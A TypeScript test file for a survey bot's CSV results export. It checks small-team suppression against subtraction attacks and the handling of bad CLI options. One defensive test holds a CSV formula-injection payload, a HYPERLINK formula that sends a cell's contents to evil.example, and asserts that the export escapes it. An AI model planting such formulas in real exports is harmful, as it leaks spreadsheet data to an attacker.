import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { questionById } from '../../src/domain/templates/catalog.js';
import { closeRound } from '../../src/services/close-round.js';
import { recordAnswer } from '../../src/services/record-answer.js';
import { newResponseToken } from '../../src/services/response-id.js';
import { resultsInRange } from '../../src/services/results-range.js';
import { startRound } from '../../src/services/start-round.js';
import { cli } from '../support/cli.js';
import { openTestDatabase, type TestDatabase } from '../support/database.js';
import { seedPeople, testDeps, weeklyPulse } from '../support/fixtures.js';

interface CsvRow {
  survey: string;
  period: string;
  segment: string;
  segment_name: string;
  metric: string;
  value: string;
}

const K = 5;

describe('pulsebot export results', () => {
  let db: TestDatabase;
  let deps: ReturnType<typeof testDeps>;

  beforeEach(async () => {
    db = await openTestDatabase();
    deps = testDeps(db.database);
    // Engineering = Platform (6) + Apps (4); Sales (6). Apps is below k = 5.
    const keys = await seedPeople(deps, { 'eng/platform': 6, 'eng/apps': 4, sales: 6 });
    await deps.store.segments.upsert({ _id: 'eng', name: 'Engineering', parentId: null });
    await deps.store.segments.upsert({ _id: 'eng/platform', name: 'Platform', parentId: 'eng' });
    await deps.store.segments.upsert({ _id: 'eng/apps', name: 'Apps', parentId: 'eng' });
    const round = await startRound(deps, weeklyPulse(), '2026-11-23', { defaultTimezone: 'UTC' });
    for (const [i, person] of keys.entries()) {
      const token = newResponseToken();
      for (const questionId of round.questionIds) {
        const kind = questionById(questionId)?.kind;
        const raw = kind === 'scale' ? i % 11 : kind === 'likert' ? (i % 5) + 1 : 'fine';
        await recordAnswer(deps, { roundId: round._id, person, responseToken: token, questionId, raw });
      }
    }
    await closeRound(deps, round._id);
  });
  afterEach(async () => {
    await db.dispose();
  });

  const exportCsv = async (args: string[] = []): Promise<CsvRow[]> => {
    const result = await cli(db.database, ['export', 'results', '--format', 'csv', ...args]);
    expect(result.code, result.err).toBe(0);
    return parse<CsvRow>(result.out, { columns: true });
  };
  const respondents = (rows: readonly CsvRow[]) => new Map(rows.filter((r) => r.metric === 'respondents').map((r) => [r.segment, Number(r.value)]));

  it('a 4-person team never appears on its own, nor by subtraction from its department', async () => {
    const rows = await exportCsv();
    const shown = respondents(rows);
    expect(Object.fromEntries(shown)).toEqual({ org: 16, eng: 10, sales: 6 });
    expect(rows.some((r) => r.segment === 'eng/apps')).toBe(false);
    // Platform alone would give Apps as Engineering − Platform (10 − 6 = 4): it is hidden too.
    expect(rows.some((r) => r.segment === 'eng/platform')).toBe(false);
    expect(rows.every((r) => r.survey === 'pulse' && r.period === '2026-11-23')).toBe(true);
    expect(rows.find((r) => r.segment === 'org' && r.metric === 'participation_pct')?.value).toBe('100');
    expect(rows.some((r) => r.segment === 'eng' && r.metric.startsWith('driver.') && r.metric.endsWith('.mean'))).toBe(true);

    // The rule, for every slice: a parent minus its shown children is nobody or at least k people.
    const parents: Record<string, string[]> = { org: ['eng', 'sales'], eng: ['eng/platform', 'eng/apps'] };
    for (const [parent, children] of Object.entries(parents)) {
      if (!shown.has(parent)) continue;
      const rest = (shown.get(parent) ?? 0) - children.reduce((sum, c) => sum + (shown.get(c) ?? 0), 0);
      expect(rest === 0 || rest >= K, `${parent} minus its shown children is ${rest}`).toBe(true);
    }
    expect(rows.some((r) => r.metric.includes('comment'))).toBe(false); // aggregates only
  });

  it('the API results and the export apply the same rule, also for one department', async () => {
    const api = await resultsInRange(deps, { survey: 'pulse', segment: 'eng' });
    if (api.kind !== 'pulse') throw new Error('expected pulse results');
    expect(api.rounds[0]?.segments.map((s) => [s.segment, s.visible, s.respondents])).toEqual([
      ['eng', true, 10],
      ['eng/platform', false, null],
      ['eng/apps', false, null],
    ]);
    expect(Object.fromEntries(respondents(await exportCsv(['--segment', 'eng'])))).toEqual({ eng: 10 });
    expect(await exportCsv(['--from', '2026-12-01'])).toEqual([]);
  });

  it('with a team of 5 instead, both teams of a department still cannot be told apart by subtraction', async () => {
    await db.dispose();
    db = await openTestDatabase();
    deps = testDeps(db.database);
    const keys = await seedPeople(deps, { 'eng/platform': 6, 'eng/apps': 5 });
    await deps.store.segments.upsert({ _id: 'eng', name: 'Engineering', parentId: null });
    await deps.store.segments.upsert({ _id: 'eng/platform', name: 'Platform', parentId: 'eng' });
    await deps.store.segments.upsert({ _id: 'eng/apps', name: 'Apps', parentId: 'eng' });
    const round = await startRound(deps, weeklyPulse(), '2026-11-23', { defaultTimezone: 'UTC' });
    // Only 4 people of Apps answer: Apps is hidden, and so Platform must be too (eng − platform = 4).
    for (const person of keys.slice(0, 10)) {
      const token = newResponseToken();
      for (const questionId of round.questionIds) {
        const kind = questionById(questionId)?.kind;
        await recordAnswer(deps, { roundId: round._id, person, responseToken: token, questionId, raw: kind === 'scale' ? 8 : kind === 'likert' ? 4 : 'ok' });
      }
    }
    await closeRound(deps, round._id);
    expect(Object.fromEntries(respondents(await exportCsv()))).toEqual({ org: 10, eng: 10 });
  });

  it('bad options exit 2 and say what to do; an unknown survey exits 1', async () => {
    const format = await cli(db.database, ['export', 'results', '--format', 'xlsx']);
    expect([format.code, format.err]).toEqual([2, expect.stringContaining('use --format csv') as unknown]);
    const date = await cli(db.database, ['export', 'results', '--from', '23/11/2026']);
    expect([date.code, date.err]).toEqual([2, expect.stringContaining('--from must be a date as YYYY-MM-DD') as unknown]);
    const survey = await cli(db.database, ['export', 'results', '--survey', 'nope']);
    expect([survey.code, survey.err]).toEqual([1, expect.stringContaining('no survey "nope"') as unknown]);
    const unknownOption = await cli(db.database, ['export', 'results', '--colour', 'red']);
    expect(unknownOption.code).toBe(2);
  });

  it('a segment named like a spreadsheet formula (from a chat user group) is written as text, not as a formula', async () => {
    await deps.store.segments.upsert({ _id: 'sales', name: '=HYPERLINK("https://evil.example/?"&A1,"Sales")', parentId: null });
    const rows = await exportCsv();
    const names = new Set(rows.filter((r) => r.segment === 'sales').map((r) => r.segment_name));
    expect([...names]).toEqual(['\'=HYPERLINK("https://evil.example/?"&A1,"Sales")']);
    // Numbers stay numbers, minus signs included.
    expect(rows.every((r) => !/^'/.test(r.value))).toBe(true);
  });
});
